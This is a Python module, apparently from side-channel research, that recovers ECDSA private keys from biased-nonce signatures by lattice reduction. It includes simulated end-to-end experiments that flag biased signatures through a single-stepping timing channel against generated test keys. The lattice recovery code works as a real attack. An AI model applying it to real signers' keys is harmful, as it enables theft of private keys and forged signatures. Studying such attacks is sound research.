"""
Biased-nonce ECDSA key recovery through the Hidden Number Problem.

A nonce with known structure k = A + e, 0 <= e < B, turns each signature into
t*d - u = e (mod n). The residuals are centered before embedding so the
target vector is as short as the construction allows.
"""
import json
import logging
import time
from dataclasses import dataclass, field
from enum import Enum
from fractions import Fraction
from math import comb
from typing import Callable, Iterable, List, Mapping, Optional, Sequence

import numpy as np

from .attacks import LbmsConfig, Platform, call_landing_filter, lbms_detect, lbms_plan, lbms_trace
from .curves import CurveParams, KeyPair, Point, Signature, inverse_mod, public_key, random_scalar, sign
from .exceptions import BudgetExhaustedError, CalibrationError, ConfigurationError
from .func import performance_monitor
from .lattice import lll
from .victims import LZB_COMMON, NONCE_BITS, leading_zeros_at_least, make_lzb_victim, make_truncation_victim

logger = logging.getLogger(__name__)


class BiasKind(str, Enum):
    MSB_ONES = 'msb_ones'
    LEADING_ZEROS = 'leading_zeros'


@dataclass(frozen=True)
class BiasSpec:
    kind: BiasKind
    bits: int
    width: int = 160

    def __post_init__(self):
        if not 0 < self.bits <= self.width:
            raise ConfigurationError("bias width out of range", bits=self.bits, width=self.width)

    @property
    def known_part(self) -> int:
        if self.kind == BiasKind.MSB_ONES:
            return ((1 << self.bits) - 1) << (self.width - self.bits)
        return 0

    @property
    def bound(self) -> int:
        return 1 << (self.width - self.bits)

    def matches(self, nonce: int) -> bool:
        return self.known_part <= nonce < self.known_part + self.bound

    def to_dict(self) -> dict:
        return {'kind': self.kind.value, 'bits': self.bits, 'width': self.width}

    @classmethod
    def from_dict(cls, data: Mapping) -> 'BiasSpec':
        return cls(BiasKind(data['kind']), int(data['bits']), int(data.get('width', NONCE_BITS)))


def gen_biased_nonce(spec: BiasSpec, rng, curve: CurveParams) -> int:
    """Known part plus a uniform residual; the result is a valid nonce for `curve`."""
    upper = min(spec.bound, curve.n_order - spec.known_part)
    lower = 1 if spec.known_part == 0 else 0
    return spec.known_part + random_scalar(rng, upper, lower)


def gen_nonce(rng, curve: CurveParams) -> int:
    return random_scalar(rng, curve.n_order)


@dataclass(frozen=True)
class HnpInstance:
    t: tuple
    u: tuple
    bound: int
    n_order: int

    @property
    def m(self) -> int:
        return len(self.t)

    def residuals(self, d: int) -> List[int]:
        return [(ti * d - ui) % self.n_order for ti, ui in zip(self.t, self.u)]


def build_hnp(sigs: Sequence[Signature], spec: BiasSpec, curve: CurveParams) -> HnpInstance:
    n = curve.n_order
    t, u = [], []
    for sig in sigs:
        s_inv = inverse_mod(sig.s, n)
        t.append(sig.r * s_inv % n)
        u.append((spec.known_part - sig.h * s_inv) % n)
    return HnpInstance(tuple(t), tuple(u), spec.bound, n)


def build_lattice(inst: HnpInstance) -> List[List[int]]:
    """(m+2)-dimensional embedding whose short vector is (n*e', d*B, -n*B).

    e' = e - B/2 is the centered residual; the shift is folded into u.
    """
    n, B, m = inst.n_order, inst.bound, inst.m
    half = B // 2
    basis = []
    for i in range(m):
        row = [0] * (m + 2)
        row[i] = n * n
        basis.append(row)
    basis.append([n * ti for ti in inst.t] + [B, 0])
    basis.append([n * ((ui + half) % n) for ui in inst.u] + [0, n * B])
    return basis


def recover_from_known_nonce(sig: Signature, k: int, curve: CurveParams) -> int:
    n = curve.n_order
    return (sig.s * k - sig.h) * inverse_mod(sig.r, n) % n


def candidate_keys(reduced: Sequence[Sequence[int]], inst: HnpInstance) -> Iterable[int]:
    target = inst.n_order * inst.bound
    for row in reduced:
        for polarity in (1, -1):
            if polarity * row[-1] == -target and row[-2] % inst.bound == 0:
                yield (polarity * row[-2] // inst.bound) % inst.n_order


def recover_key(sigs: Sequence[Signature], spec: BiasSpec, curve: CurveParams, pub: Point,
                delta=Fraction(99, 100), block2_passes: int = 0) -> Optional[int]:
    """Lattice recovery; only a key that reproduces `pub` is ever returned."""
    inst = build_hnp(sigs, spec, curve)
    reduced = lll(build_lattice(inst), delta, block2_passes)
    for d in candidate_keys(reduced, inst):
        if 0 < d and public_key(d, curve) == pub:
            return d
    return None


@dataclass
class SubsetSearchResult:
    key: int
    reductions: int
    elapsed: float
    subset: List[int] = field(default_factory=list)

    @property
    def reductions_per_second(self) -> float:
        return self.reductions / self.elapsed if self.elapsed > 0 else 0.0


def draw_subsets(count: int, population: int, subset_size: int, rng) -> List[List[int]]:
    return [sorted(int(i) for i in rng.choice(population, size=subset_size, replace=False)) for _ in range(count)]


@performance_monitor
def subset_search(flagged: Sequence[Signature], subset_size: int, budget: int, rng, curve: CurveParams, pub: Point,
                  spec: BiasSpec, delta=Fraction(99, 100), block2_passes: int = 0,
                  dispatch: Optional[Callable[[List[List[Signature]], BiasSpec], List[Optional[int]]]] = None,
                  batch: int = 1) -> SubsetSearchResult:
    """Reduce random `subset_size` subsets of `flagged` until one yields the key.

    Subsets are drawn `batch` at a time; `dispatch` reduces their signature
    lists and returns one key-or-None per subset in order.
    """
    if len(flagged) < subset_size:
        raise BudgetExhaustedError("fewer flagged signatures than the subset size",
                                   flagged=len(flagged), subset_size=subset_size)

    def reduce_locally(signature_sets, bias):
        return [recover_key(sigs, bias, curve, pub, delta, block2_passes) for sigs in signature_sets]

    reduce_all = dispatch or reduce_locally
    started = time.perf_counter()
    attempts = 0
    while attempts < budget:
        subsets = draw_subsets(min(batch, budget - attempts), len(flagged), subset_size, rng)
        signature_sets = [[flagged[i] for i in subset] for subset in subsets]
        for offset, key in enumerate(reduce_all(signature_sets, spec)):
            if key is not None:
                elapsed = time.perf_counter() - started
                logger.info(f"key recovered after {attempts + offset + 1} reductions")
                return SubsetSearchResult(key, attempts + offset + 1, elapsed, subsets[offset])
        attempts += len(subsets)
    raise BudgetExhaustedError("subset search exhausted its reduction budget", budget=budget)


def expected_reductions(flagged: int, tp_rate: float, subset_size: int) -> float:
    """Mean number of uniformly drawn subsets until one holds only true positives."""
    biased = round(tp_rate * flagged)
    if biased < subset_size:
        raise CalibrationError("too few true positives for the subset size",
                               flagged=flagged, true_positives=biased, subset_size=subset_size)
    return float(Fraction(comb(flagged, subset_size), comb(biased, subset_size)))


def dump_signatures(path, sigs: Sequence[Signature], debug: bool = False):
    with open(path, 'w') as handle:
        for sig in sigs:
            handle.write(json.dumps(sig.to_dict(debug), sort_keys=True) + '\n')


def load_signatures(path) -> List[Signature]:
    with open(path) as handle:
        return [Signature.from_dict(json.loads(line)) for line in handle if line.strip()]


@dataclass
class TruncationReport:
    key: int
    verified: bool
    signatures: int
    flagged: int
    true_positives: int
    false_positives: int
    interrupts: int
    reductions: int
    reductions_per_second: float
    expected_reductions: float
    reduction_budget: int
    short_branch_cycles: float
    plan: dict
    flagged_signatures: List[Signature] = field(default_factory=list)


def e2e_truncation_attack(platform: Platform, curve: CurveParams, keypair: KeyPair, settings: Mapping,
                          rng, dispatch=None, batch: int = 1) -> TruncationReport:
    """Sign, flag biased nonces with threshold LBMS, then subset-search the flagged set.

    `settings` is the resolved ecdsa profile section for one mode.
    """
    bias = BiasSpec(BiasKind.MSB_ONES, int(settings['bias_bits']), NONCE_BITS)
    forced_every = settings.get('forced_every') if settings['mode'] == 'forced' else None
    unbiased = platform.compile(make_truncation_victim(0, platform.opcodes, bias.bits))
    short_branch = float(unbiased.cycles_between()) / 2.0
    plan = lbms_plan(platform, short_branch, float(settings['epsilon']))
    cfg = LbmsConfig(plan=plan, detection_threshold=int(settings['detection_threshold']))

    flagged, truth = [], []
    interrupts = 0
    signed = 0
    for index in range(int(settings['signature_budget'])):
        if forced_every and index % forced_every == forced_every - 1:
            nonce = gen_biased_nonce(bias, rng, curve)
        else:
            nonce = gen_nonce(rng, curve)
        sig = sign(keypair.d, random_scalar(rng, 1 << NONCE_BITS), nonce, curve)
        signed += 1
        victim = make_truncation_victim(nonce, platform.opcodes, bias.bits)
        obs = lbms_trace(platform.compile(victim), platform, cfg, rng, f'trunc-{index}')
        interrupts += obs.interrupts_before_boundary
        if lbms_detect(obs, cfg):
            flagged.append(sig)
            truth.append(bias.matches(nonce))
            if len(flagged) >= int(settings['flagged_target']):
                break
    else:
        raise BudgetExhaustedError("signature budget spent before enough signatures were flagged",
                                   flagged=len(flagged), signatures=signed)

    true_positives = sum(truth)
    logger.info(f"flagged {len(flagged)} of {signed} signatures, {true_positives} truly biased")
    subset_size = int(settings['subset_size'])
    expected = expected_reductions(len(flagged), float(settings['assumed_tp_rate']), subset_size)
    budget = max(1, int(round(float(settings['budget_factor']) * expected)))
    result = subset_search(flagged, subset_size, budget, rng, curve, keypair.pub, bias,
                           settings['lll_delta'], int(settings['block2_passes']), dispatch, batch)
    return TruncationReport(
        key=result.key,
        verified=public_key(result.key, curve) == keypair.pub,
        signatures=signed,
        flagged=len(flagged),
        true_positives=true_positives,
        false_positives=len(flagged) - true_positives,
        interrupts=interrupts,
        reductions=result.reductions,
        reductions_per_second=result.reductions_per_second,
        expected_reductions=expected,
        reduction_budget=budget,
        short_branch_cycles=short_branch,
        plan=plan.to_dict(),
        flagged_signatures=flagged,
    )


@dataclass
class LzbReport:
    signatures: int
    detected: int
    kept: int
    true_positives: int
    false_positives: int
    call_landings: int
    call_landings_removed: int
    baseline_cycles: float
    threshold_cycles: float
    expected_reductions: Optional[float]
    recovered_key: Optional[int] = None
    recovery_m: Optional[int] = None
    rows: List[dict] = field(default_factory=list)

    @property
    def tp_rate(self) -> float:
        return self.true_positives / self.kept if self.kept else 0.0


def lzb_attack(platform: Platform, curve: CurveParams, keypair: KeyPair, settings: Mapping, rng) -> LzbReport:
    """Threshold-1 LBMS on the leading-zero gadget with the call-landing timing filter."""
    zeros = int(settings['leading_zeros'])
    bias = BiasSpec(BiasKind.LEADING_ZEROS, zeros, NONCE_BITS)
    reference = platform.compile(make_lzb_victim(1 << (NONCE_BITS - 1), platform.opcodes, zeros))
    bound = float(reference.cycles_between(0, LZB_COMMON))
    plan = lbms_plan(platform, bound, float(settings['epsilon']))
    cfg = LbmsConfig(plan=plan, detection_threshold=1)
    mov = platform.opcodes.instruction('mov')
    call = platform.opcodes.instruction('call')
    baseline = (platform.mitigation_end(0) + float(platform.opcodes.cost(mov, platform.cache_enabled))
                + float(platform.opcodes.cost(call, platform.cache_enabled)))
    gap = float(settings['timing_gap'])
    noise = float(settings['tsc_noise_std'])

    report = LzbReport(0, 0, 0, 0, 0, 0, 0, baseline, (1.0 - gap / 2.0) * baseline, None)
    kept_true = []
    for index in range(int(settings['signatures'])):
        nonce = gen_nonce(rng, curve)
        sig = sign(keypair.d, random_scalar(rng, 1 << NONCE_BITS), nonce, curve)
        compiled = platform.compile(make_lzb_victim(nonce, platform.opcodes, zeros))
        obs = lbms_trace(compiled, platform, cfg, rng, f'lzb-{index}')
        report.signatures += 1
        if not lbms_detect(obs, cfg):
            continue
        report.detected += 1
        biased = leading_zeros_at_least(nonce, zeros)
        on_call = obs.debug_positions[-1] == compiled.retired_before_boundary() - 1
        delta = obs.fault_elapsed + (rng.normal(0.0, noise) if noise > 0 else 0.0)
        keep = call_landing_filter(delta, baseline, gap)
        report.call_landings += int(on_call)
        report.call_landings_removed += int(on_call and not keep)
        report.rows.append({
            'signature': index,
            'tsc_delta': round(delta, 3),
            'kept': keep,
            'biased': biased,
            'call_landing': on_call,
        })
        if not keep:
            continue
        report.kept += 1
        if biased:
            report.true_positives += 1
            kept_true.append(sig)
        else:
            report.false_positives += 1

    subset_size = int(settings['subset_size'])
    if round(report.tp_rate * report.kept) >= subset_size:
        report.expected_reductions = expected_reductions(report.kept, report.tp_rate, subset_size)
    logger.info(
        f"LZB: {report.kept} kept of {report.detected} detected, tp rate {report.tp_rate:.3f}, "
        f"{report.call_landings_removed}/{report.call_landings} call landings removed"
    )
    if settings.get('recover'):
        for m in range(subset_size, int(settings['max_subset_size']) + 1, 2):
            if len(kept_true) < m:
                break
            key = recover_key(kept_true[:m], bias, curve, keypair.pub, settings['lll_delta'],
                              int(settings['block2_passes']))
            if key is not None:
                report.recovered_key, report.recovery_m = key, m
                break
    return report


def biased_frequency(spec: BiasSpec, draws: int, rng, curve: CurveParams) -> float:
    """Empirical rate at which uniform nonces satisfy `spec`."""
    hits = sum(spec.matches(gen_nonce(rng, curve)) for _ in range(draws))
    return hits / draws


def hypergeometric_all_biased(flagged: int, biased: int, subset_size: int, draws: int, rng) -> float:
    """Monte-Carlo probability that a random subset contains only biased signatures."""
    hits = rng.hypergeometric(biased, flagged - biased, subset_size, size=draws)
    return float(np.mean(hits == subset_size))
